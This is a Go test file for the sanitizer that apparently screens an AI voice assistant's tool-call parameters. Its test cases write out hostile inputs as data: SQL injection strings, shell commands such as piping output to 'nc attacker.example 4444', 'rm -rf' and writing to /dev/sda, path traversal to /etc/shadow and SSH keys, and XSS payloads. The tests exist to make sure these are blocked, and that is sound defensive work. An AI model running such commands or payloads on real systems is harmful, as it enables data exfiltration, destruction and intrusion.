// Copyright (C) 2025 Aleutian AI (jinterlante@aleutian.ai)
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
// See the LICENSE.txt file for the full license text.
//
// NOTE: This work is subject to additional terms under AGPL v3 Section 7.
// See the NOTICE.txt file for details regarding AI system attribution.

package safety

import (
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/AleutianAI/AleutianVoice/services/reasoning/tools"
)

func testSpec(t *testing.T, name string) *tools.Spec {
	t.Helper()
	catalog, err := tools.NewCatalog()
	if err != nil {
		t.Fatalf("NewCatalog: %v", err)
	}
	spec, err := catalog.Lookup(name)
	if err != nil {
		t.Fatalf("Lookup(%q): %v", name, err)
	}
	return spec
}

func TestSanitizer_SQLInjectionBlocked(t *testing.T) {
	s := NewSanitizer(DefaultPolicies())
	spec := testSpec(t, "DATABASE_QUERY")

	cases := []struct {
		name  string
		query string
		want  string // expected pattern in the block reason
	}{
		{"drop table", "SELECT * FROM users; DROP TABLE users;--", "DROP TABLE"},
		{"union select", "SELECT id FROM users WHERE id=1 UNION SELECT password FROM admin", "UNION SELECT"},
		{"comment bypass", "SELECT * FROM users WHERE name='admin' -- AND pass='x'", "--"},
		{"delete from", "DELETE FROM users WHERE 1=1", "DELETE FROM"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, _, err := s.SanitizeParameters(spec, map[string]any{"query": tc.query})
			var blockErr *BlockError
			if !errors.As(err, &blockErr) {
				t.Fatalf("expected BlockError, got %v", err)
			}
			if !strings.Contains(blockErr.Error(), tc.want) {
				t.Errorf("block reason %q does not contain %q", blockErr.Error(), tc.want)
			}
		})
	}
}

func TestSanitizer_ShellMetacharactersBlocked(t *testing.T) {
	s := NewSanitizer(DefaultPolicies())
	spec := testSpec(t, "SYSTEM_CONTROL")

	for _, command := range []string{
		"ls -la | nc attacker.example 4444",
		"lock; rm -rf /tmp/x",
		"echo `whoami`",
		"cat $(find /)",
		"sleep 1 & reboot",
		"echo hi > /dev/sda",
	} {
		_, _, err := s.SanitizeParameters(spec, map[string]any{"command": command})
		var blockErr *BlockError
		if !errors.As(err, &blockErr) {
			t.Errorf("command %q should be blocked, got %v", command, err)
		}
	}

	// A plain command passes.
	params, warnings, err := s.SanitizeParameters(spec, map[string]any{"command": "lock_screen"})
	if err != nil {
		t.Fatalf("benign command blocked: %v", err)
	}
	if len(warnings) != 0 {
		t.Errorf("benign command raised warnings: %v", warnings)
	}
	if params["command"] != "lock_screen" {
		t.Errorf("command = %v, want lock_screen", params["command"])
	}
}

func TestSanitizer_PathTraversalBlocked(t *testing.T) {
	s := NewSanitizer(DefaultPolicies())
	spec := testSpec(t, "FILE_SEARCH")

	for _, path := range []string{
		"../../etc/passwd",
		"/etc/shadow",
		"/root/.ssh/id_rsa",
		"C:\\Windows\\System32\\config",
		"docs/../../secrets",
	} {
		_, _, err := s.SanitizeParameters(spec, map[string]any{"query": "q", "path": path})
		var blockErr *BlockError
		if !errors.As(err, &blockErr) {
			t.Errorf("path %q should be blocked, got %v", path, err)
		}
	}

	if _, _, err := s.SanitizeParameters(spec, map[string]any{"query": "q", "path": "Documents/notes"}); err != nil {
		t.Errorf("benign path blocked: %v", err)
	}
}

func TestSanitizer_XSSScrubbedAndIdempotent(t *testing.T) {
	s := NewSanitizer(DefaultPolicies())
	spec := testSpec(t, "WEB_SEARCH")

	params, warnings, err := s.SanitizeParameters(spec, map[string]any{
		"query": `weather <script>alert(1)</script> javascript:boom onload=hack Paris`,
	})
	if err != nil {
		t.Fatalf("SanitizeParameters: %v", err)
	}
	if len(warnings) == 0 {
		t.Fatal("scrubbing should raise a warning")
	}

	clean := params["query"].(string)
	for _, leaked := range []string{"<script", "javascript:", "onload="} {
		if strings.Contains(strings.ToLower(clean), leaked) {
			t.Errorf("scrubbed query still contains %q: %q", leaked, clean)
		}
	}
	if !strings.Contains(clean, "Paris") {
		t.Errorf("scrubbing dropped benign content: %q", clean)
	}

	// Idempotence: a second pass changes nothing and raises no warnings.
	again, warnings2, err := s.SanitizeParameters(spec, params)
	if err != nil {
		t.Fatalf("second pass: %v", err)
	}
	if len(warnings2) != 0 {
		t.Errorf("second pass raised warnings: %v", warnings2)
	}
	if !reflect.DeepEqual(params, again) {
		t.Errorf("second pass changed parameters: %v vs %v", params, again)
	}
}

func TestSanitizer_PIIMaskedAndIdempotent(t *testing.T) {
	s := NewSanitizer(DefaultPolicies())
	spec := testSpec(t, "NOTE_TAKING")

	params, warnings, err := s.SanitizeParameters(spec, map[string]any{
		"action": "create",
		"text":   "call 555-123-4567, card 4111-1111-1111-1111, ssn 123-45-6789, mail a@b.com",
	})
	if err != nil {
		t.Fatalf("SanitizeParameters: %v", err)
	}
	if len(warnings) == 0 {
		t.Fatal("masking should raise a warning")
	}

	text := params["text"].(string)
	for _, leaked := range []string{"555-123-4567", "4111", "123-45-6789", "a@b.com"} {
		if strings.Contains(text, leaked) {
			t.Errorf("masked text still contains %q: %q", leaked, text)
		}
	}
	joined := strings.Join(warnings, " ")
	for _, category := range []string{"phone", "credit_card", "ssn", "email"} {
		if !strings.Contains(joined, category) {
			t.Errorf("warnings %q missing category %q", joined, category)
		}
	}

	// Masks must not re-trigger the detectors.
	again, warnings2, err := s.SanitizeParameters(spec, params)
	if err != nil {
		t.Fatalf("second pass: %v", err)
	}
	if len(warnings2) != 0 {
		t.Errorf("second pass raised warnings: %v", warnings2)
	}
	if !reflect.DeepEqual(params, again) {
		t.Errorf("second pass changed parameters: %v vs %v", params, again)
	}
}

func TestSanitizer_PIIExemptionForRecipients(t *testing.T) {
	s := NewSanitizer(DefaultPolicies())
	spec := testSpec(t, "SEND_EMAIL")

	// The recipient address must survive; PII in the body is masked.
	params, _, err := s.SanitizeParameters(spec, map[string]any{
		"to":      "boss@example.com",
		"subject": "Resign",
		"body":    "my ssn is 123-45-6789",
	})
	if err != nil {
		t.Fatalf("SanitizeParameters: %v", err)
	}
	if params["to"] != "boss@example.com" {
		t.Errorf("recipient was masked: %v", params["to"])
	}
	if strings.Contains(params["body"].(string), "123-45-6789") {
		t.Errorf("body PII survived: %q", params["body"])
	}
}

func TestSanitizer_URLPolicy(t *testing.T) {
	spec := &tools.Spec{
		Type: "WEB_SEARCH",
		Params: []tools.ParamSpec{
			{Name: "url", Type: "string", Format: tools.FormatURL},
		},
	}

	t.Run("development mode", func(t *testing.T) {
		s := NewSanitizer(DefaultPolicies()) // AllowHTTPLocalhost: true

		if _, _, err := s.SanitizeParameters(spec, map[string]any{"url": "https://example.com/a"}); err != nil {
			t.Errorf("https URL blocked: %v", err)
		}
		if _, _, err := s.SanitizeParameters(spec, map[string]any{"url": "http://localhost:8080/x"}); err != nil {
			t.Errorf("http localhost should pass in development mode: %v", err)
		}

		for _, bad := range []string{
			"file:///etc/passwd",
			"ftp://example.com/a",
			"http://example.com/a",       // plain HTTP to a real host
			"https://10.0.0.8/internal",  // RFC1918
			"https://192.168.1.1/router", // RFC1918
			"https://malware.example/dl", // blocked domain
		} {
			if _, _, err := s.SanitizeParameters(spec, map[string]any{"url": bad}); err == nil {
				t.Errorf("URL %q should be blocked", bad)
			}
		}
	})

	t.Run("production mode", func(t *testing.T) {
		prod := DefaultPolicies()
		prod.AllowHTTPLocalhost = false
		s := NewSanitizer(prod)

		for _, bad := range []string{"http://localhost:8080/x", "https://localhost/x", "https://127.0.0.1/x"} {
			if _, _, err := s.SanitizeParameters(spec, map[string]any{"url": bad}); err == nil {
				t.Errorf("URL %q should be blocked in production mode", bad)
			}
		}
	})
}

func TestSanitizer_NumericBounds(t *testing.T) {
	s := NewSanitizer(DefaultPolicies())
	spec := testSpec(t, "SMART_HOME_CONTROL")

	_, _, err := s.SanitizeParameters(spec, map[string]any{
		"device": "thermostat", "action": "set", "temperature": 1e16,
	})
	var blockErr *BlockError
	if !errors.As(err, &blockErr) {
		t.Errorf("oversized number should be blocked, got %v", err)
	}

	if _, _, err := s.SanitizeParameters(spec, map[string]any{
		"device": "thermostat", "action": "set", "temperature": 21.5,
	}); err != nil {
		t.Errorf("benign number blocked: %v", err)
	}
}

func TestSanitizer_MaxLengths(t *testing.T) {
	s := NewSanitizer(DefaultPolicies())
	spec := testSpec(t, "DATABASE_QUERY")

	long := "SELECT " + strings.Repeat("a", 600)
	_, _, err := s.SanitizeParameters(spec, map[string]any{"query": long})
	var blockErr *BlockError
	if !errors.As(err, &blockErr) {
		t.Fatalf("expected BlockError, got %v", err)
	}
	if !strings.Contains(blockErr.Error(), "max length") {
		t.Errorf("block reason %q should mention max length", blockErr.Error())
	}
}
